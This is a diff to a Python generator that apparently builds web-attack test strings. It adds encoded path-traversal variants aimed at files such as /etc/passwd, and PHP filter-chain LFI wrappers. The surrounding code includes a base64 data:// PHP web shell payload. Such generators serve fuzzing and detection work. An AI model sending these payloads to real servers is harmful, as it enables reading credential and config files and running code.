@@ -24,8 +24,11 @@ def trav_dotdot(r):
     t = pick(r, TRAV_TARGETS) if r.random() < 0.5 else pick(r, HOST_FILES)
     up = pick(r, ["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%5c", "%252e%252e%252f", "..%c0%af", "..%u2216", ".%2e/", "..///", "/..", "..%00/",
                   "0x2e0x2e0x2f", "..0x2f", "0x2e0x2e0x5c", "..0x5c", "%c0%2e%c0%2e%c0%2f", "%c0%ae%c0%ae/", "%e0%80%ae%e0%80%ae/", "..%c1%9c", "%uff0e%uff0e/",
-                  "..%255c", "%%32%65%%32%65/", ".../", "..\\/", "/./../", "%2e%2e%5c"])
+                  "..%255c", "%%32%65%%32%65/", ".../", "..\\/", "/./../", "%2e%2e%5c", "..2f", "..5c", "%2e%2e2f"])
     sep = "\\" if "\\" in up or "5c" in up.lower() else "/"
+    if "%" not in up and up[-2:] in ("2f", "5c"):
+        # Escapes that lost their "%" on the way ("..2f..2fetc2fpasswd").
+        sep = up[-2:]
     return pick(r, ["", "/", "./", "static/", "images/", "file=", ""]) + up * d + t.replace("/", sep) + pick(r, ["", "", "%00", "%00.jpg", "%00.html", "?", "#"])
 
 
@@ -40,7 +43,9 @@ def lfi_wrapper(r):
     f = pick(r, ["index.php", "config.php", "../config.php", "/etc/passwd", "admin.php"])
     return pick(r, [f"php://filter/convert.base64-encode/resource={f}", f"php://filter/read=string.rot13/resource={f}", "php://input", "expect://id",
                  f"data://text/plain;base64,{base64.b64encode(b'<?php system($_GET[c]); ?>').decode()}", f"zip://uploads/avatar.jpg%23shell.php",
-                 f"phar://uploads/x.phar/{f}", f"php://filter/resource={f}", "data:text/plain,<?php phpinfo(); ?>", f"glob://{f}", f"jar:file:///tmp/x.jar!/{f}"])
+                 f"phar://uploads/x.phar/{f}", f"php://filter/resource={f}", "data:text/plain,<?php phpinfo(); ?>", f"glob://{f}", f"jar:file:///tmp/x.jar!/{f}",
+                 f"php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource={f}",
+                 f"convert.iconv.{pick(r, ['IBM037', 'L1', 'UTF8', 'CSUNICODE', 'IBM273'])}.{pick(r, ['IBM256', 'UTF7', 'UCS-2BE', 'ES', 'CSISO2022KR'])}"])
 
 
 def rfi(r):
